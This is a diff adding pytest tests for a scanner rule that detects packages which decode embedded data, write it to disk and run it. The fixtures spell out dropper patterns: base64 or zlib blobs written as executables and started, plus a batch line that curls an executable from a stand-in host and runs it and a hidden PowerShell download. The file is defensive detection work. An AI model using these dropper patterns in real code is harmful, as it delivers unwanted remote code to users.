@@ -1,0 +1,91 @@
+"""DROP-001: a second stage that comes along in the code."""
+
+from __future__ import annotations
+
+import base64
+import zlib
+
+import pytest
+
+from assay.rules.drop_001_embedded_stage import RULE
+from tests.behaviour import at, findings, worst
+
+HEAD = "import os, subprocess, base64, sys, tempfile, zlib\n"
+STAGE = "import requests\nrequests.get('https://example.invalid/a')\n"
+BLOB = base64.b64encode(STAGE.encode()).decode()
+PACKED = base64.b64encode(zlib.compress(b"MZ inert")).decode()
+
+STARTED_BY_NAME = [
+    f"open('a.exe', 'wb').write(base64.b64decode('{BLOB}'))\nos.startfile('a.exe')",
+    (
+        f"p = os.path.join(os.environ['TEMP'], 'prog.exe')\nwith open(p, 'wb') as f:\n"
+        f"    f.write(zlib.decompress(base64.b64decode('{PACKED}')))\nsubprocess.Popen(p, shell=True)"
+    ),
+    f"open('stage.py', 'wb').write(base64.b64decode('{BLOB}'))\nsubprocess.Popen(['pythonw', 'stage.py'])",
+    (
+        f"from pathlib import Path as P\nP('/tmp/prog.py').write_bytes(base64.b64decode('{BLOB}'))\n"
+        "os.system(f'{sys.executable} /tmp/prog.py')"
+    ),
+    f"d = bytes.fromhex('{STAGE.encode().hex()}')\nopen('run.pyw', 'wb').write(d)\nos.popen('start run.pyw')",
+]
+STARTED_NEAR_BY = [
+    (
+        f"t = tempfile.NamedTemporaryFile(delete=False)\nt.write(base64.b64decode('{BLOB}'))\nt.close()\n"
+        "subprocess.Popen([sys.executable, t.name])"
+    ),
+    (
+        f"t = tempfile.NamedTemporaryFile(delete=False)\nt.write({STAGE.encode()!r})\nt.close()\n"
+        '_s = os.system\n_s(f\'start {sys.executable.replace("n.exe", "nw.exe")} {t.name}\')'
+    ),
+    f"p = unknown\nopen(p, 'wb').write(base64.b64decode('{BLOB}'))\nsubprocess.Popen(p)",
+]
+SCRIPTS = [
+    f"open('stage.py', 'w').write({STAGE!r})\nsubprocess.call([sys.executable, 'stage.py'])",
+    "open('a.bat', 'w').write('curl -o a.exe https://example.invalid/a.exe && start a.exe')\nos.system('a.bat')",
+    "open('a.ps1', 'w').write('powershell -w hidden iwr https://example.invalid')\nos.system('a.ps1')",
+]
+
+
+@pytest.mark.parametrize("source", STARTED_BY_NAME)
+def test_decoded_data_started_by_name(source: str) -> None:
+    assert worst(RULE, *at("install", HEAD + source)) == "critical"
+    assert worst(RULE, *at("import", HEAD + source)) == "high"
+    assert worst(RULE, *at("call", HEAD + source)) == "high"
+    assert worst(RULE, *at("test", HEAD + source)) in ("low", "medium")
+
+
+@pytest.mark.parametrize("source", STARTED_NEAR_BY + SCRIPTS)
+def test_what_counts_when_nobody_has_asked(source: str) -> None:
+    assert worst(RULE, *at("install", HEAD + source)) == "critical"
+    assert worst(RULE, *at("import", HEAD + source)) == "high"
+    assert worst(RULE, *at("call", HEAD + source)) not in ("critical", "medium")
+
+
+@pytest.mark.parametrize(
+    ("source", "severity"),
+    [
+        (f"open('a.png', 'wb').write(base64.b64decode('{BLOB}'))", "none"),
+        (f"open('a.exe', 'wb').write(base64.b64decode('{BLOB}'))\nos.startfile('b.html')", "none"),
+        (f"base64.b64decode('{BLOB}')\nsubprocess.run(['prog', 'a.exe'])", "none"),
+        (f"open('a.json', 'wb').write(base64.b64decode('{BLOB}'))\nsubprocess.run(['git', 'describe'])", "none"),
+        ("open('a.txt', 'w').write('text')\nsubprocess.run(['prog', 'a.txt'])", "none"),
+        ("open('v.py', 'w').write('import sys\\nsys.exit(0)')\nsubprocess.run([sys.executable, 'v.py'])", "medium"),
+        ("open('x.c', 'w').write('int main() { return 0; }')\nsubprocess.run(['gcc', 'x.c'])", "none"),
+        (f"f = open('a', 'wb')\ndef g():\n    f.write(base64.b64decode('{BLOB}'))\nsubprocess.run(['prog'])", "none"),
+    ],
+)  # fmt: skip
+def test_near_misses(source: str, severity: str) -> None:
+    assert worst(RULE, *at("import", HEAD + source)) == severity
+
+
+def test_a_module_that_makes_a_project_and_builds_it() -> None:
+    source = "open('b/setup.py', 'w').write('from setuptools import setup\\nsetup()')\n"
+    source += "subprocess.run([sys.executable, 'b/setup.py', 'build_ext'])"
+    assert worst(RULE, *at("call", HEAD + source)) == "none"
+
+
+def test_the_finding_says_what_is_started() -> None:
+    (found,) = findings(RULE, *at("install", HEAD + STARTED_BY_NAME[0]))
+    assert found.message == "demo 1.0 carries something that it writes to disk and starts"
+    assert found.evidence[0] == "decoded data is written to a.exe and started: os.startfile('a.exe')"
+    assert "hidden by base64" in found.evidence
